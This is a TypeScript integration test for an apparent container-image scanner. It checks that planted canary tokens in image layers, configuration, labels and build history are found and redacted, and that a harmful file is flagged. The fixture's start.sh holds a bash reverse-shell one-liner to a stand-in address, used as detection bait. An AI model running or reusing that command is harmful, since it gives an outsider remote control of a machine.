// SPDX-FileCopyrightText: Bartizan contributors
// SPDX-License-Identifier: Apache-2.0

import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { zstdDecompressSync } from 'node:zlib';
import type { Finding, Image, Registry } from '@bartizan/contracts';
import { PackBuilder } from '@bartizan/scan';
import { type BuiltImage, builtImage, MemoryRegistry } from '@bartizan/testkit/registry';
import { fillTemplate } from '@bartizan/testkit/secrets';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { type Running, startRunning } from './running.ts';

/** Planted values: made here, so that no text of the repository looks like a secret. */
const CANARIES = {
  deleted: fillTemplate('glpat-{alnum:20}', 'controller deleted layer'),
  kept: fillTemplate('glpat-{alnum:20}', 'controller kept layer'),
  configured: fillTemplate('glpat-{alnum:20}', 'controller configuration'),
  built: fillTemplate('glpat-{alnum:20}', 'controller history'),
  labelled: fillTemplate('glpat-{alnum:20}', 'controller label'),
};
const image: BuiltImage = builtImage(
  [
    {
      'etc/passwd': 'root:x:0:0::/root:/bin/sh\n',
      'srv/gone.env': `TOKEN=${CANARIES.deleted}\n`,
      'srv/kept.env': `TOKEN=${CANARIES.kept}\n`,
      'srv/start.sh': '#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n',
      'app/node_modules/minimist/package.json': '{"name":"minimist","version":"1.2.5"}',
    },
    { 'srv/.wh.gone.env': '' },
  ],
  {
    history: [`RUN curl -H "x: ${CANARIES.built}" https://x/y -o /y`, 'RUN rm /srv/gone.env'],
    labels: { team: 'shop', token: CANARIES.labelled },
    run: { Env: ['PATH=/bin', `API_TOKEN=${CANARIES.configured}`], Entrypoint: ['/srv/start.sh'] },
  },
);

let running: Running;
let server: MemoryRegistry;
/** Everything the API answered: canaries are looked for in it. */
const told: string[] = [];

async function ask<T>(path: string, more: Partial<Parameters<Running['call']>[0]> = {}): Promise<T> {
  const answer = await running.call({ path, ...more });
  told.push(answer.text);
  expect([path, answer.status < 300, answer.status < 300 ? '' : answer.text]).toEqual([path, true, '']);
  return answer.json as T;
}
const findings = async (filter: string): Promise<readonly Finding[]> =>
  (await ask<{ items: Finding[] }>(`findings?limit=500&filter=${encodeURIComponent(filter)}`)).items;
const ofImage = (kind: string, state = 'open'): Promise<readonly Finding[]> =>
  findings(`workload:${image.digest} kind:${kind} state:${state}`);

function pack(version: number): Buffer {
  const builder = new PackBuilder();
  builder.addRow('npm', 'minimist', {
    id: 'CVE-2021-44906',
    kind: 'vulnerability',
    source: 'made up',
    ranges: [{ type: 'SEMVER', events: [{ introduced: '0' }, { fixed: `1.2.${version}` }] }],
  });
  const made = builder.finish({ builtAtMs: Date.UTC(2026, 10, version), kind: 'full' });
  if (!made.ok) throw new Error(made.error.detail);
  return made.value;
}
const load = (version: number): Promise<unknown> =>
  ask('advisories?unsigned=true', {
    method: 'POST',
    raw: pack(version),
    headers: { 'content-type': 'application/octet-stream' },
  });

async function ran(id: string): Promise<Registry['run']> {
  await ask(`registries/${id}/runs`, { method: 'POST', body: {} });
  await vi.waitFor(
    async () => expect(['done', 'failed']).toContain((await ask<Registry>(`registries/${id}`)).run.state),
    { timeout: 60_000, interval: 200 },
  );
  return (await ask<Registry>(`registries/${id}`)).run;
}

beforeAll(async () => {
  server = await MemoryRegistry.start();
  server.push('shop/web', 'v1', image);
  running = await startRunning();
  await load(6);
}, 120_000);
afterAll(async () => {
  await running?.close();
  await server?.stop();
});

describe('an image of a registry', { timeout: 180_000 }, () => {
  let id = '';

  it('is searched for secrets of every layer and of its configuration, and for harmful files', async () => {
    const body = {
      name: 'ours',
      kind: 'docker',
      host: server.host,
      plainHttp: true,
      includes: [],
      excludes: [],
      platforms: [],
      schedule: { kind: 'manual' },
      concurrency: 1,
    };
    ({ id } = await ask<Registry>('registries', { method: 'POST', body }));
    expect(await ran(id)).toMatchObject({ state: 'done', scanned: 1, failed: 0 });
    const secrets = await ofImage('secret');
    expect(secrets.map(({ location }) => `${location?.kind} ${location?.path}`).sort()).toEqual([
      'deleted-file /srv/gone.env',
      'file /srv/kept.env',
      'image-config config.Env[API_TOKEN]',
      'image-config config.Labels[token]',
      'image-config history[0].created_by',
    ]);
    expect(secrets.every(({ subject }) => subject.kind === 'Image')).toBe(true);
    expect((await ofImage('malware')).map(({ check }) => check)).toEqual(['malware.reverse-shell']);
    expect((await ofImage('posture')).map(({ check }) => check).sort()).toEqual([
      'image.config-secrets',
      'image.health-check',
      'image.user',
    ]);
  });

  it('is shown without the values: in its labels, its build steps, and everywhere else', async () => {
    const shown = await ask<{ image: Image }>(`images/${encodeURIComponent(image.digest)}`);
    expect(shown.image.labels).toMatchObject({ team: 'shop', token: '[redacted]' });
    expect(shown.image.layers?.[0]?.command).toBe('RUN curl -H "x: [redacted]" https://x/y -o /y');
    const csv = await running.call({ path: 'findings?limit=500', headers: { accept: 'text/csv' } });
    expect(csv.text).toContain('/srv/kept.env');
    told.push(csv.text, ...running.logged);
    const files = readdirSync(running.dataDir, { recursive: true, withFileTypes: true }).filter((entry) =>
      entry.isFile(),
    );
    const kept = files.map((entry) => readFileSync(join(entry.parentPath, entry.name)));
    // Notes of layers are packed: they are looked into as well.
    const notes = kept
      .filter((bytes) => bytes.subarray(0, 8).toString('latin1') === 'BZNOTES2')
      .map((bytes) => zstdDecompressSync(bytes.subarray(8 + 32)).toString('latin1'));
    expect(notes.join()).toContain('/srv/gone.env');
    expect(kept.some((bytes) => bytes.includes('/srv/gone.env'))).toBe(true);
    for (const [name, canary] of Object.entries(CANARIES)) {
      expect([name, told.some((text) => text.includes(canary))]).toEqual([name, false]);
      expect([name, notes.some((text) => text.includes(canary))]).toEqual([name, false]);
      expect([name, kept.some((bytes) => bytes.includes(canary))]).toEqual([name, false]);
    }
  });

  it('keeps what was found in its files when advisories change, and is not read again', async () => {
    const before = await ofImage('malware');
    await load(9);
    await vi.waitFor(
      async () => expect(await findings('vulnerability:CVE-2021-44906 state:open')).toHaveLength(1),
      { timeout: 30_000, interval: 200 },
    );
    expect((await ofImage('malware')).map(({ id: one }) => one)).toEqual(before.map(({ id: one }) => one));
    expect(await ofImage('secret')).toHaveLength(5);
    expect(await ran(id)).toMatchObject({ scanned: 0, unchanged: 1 });
  });
});
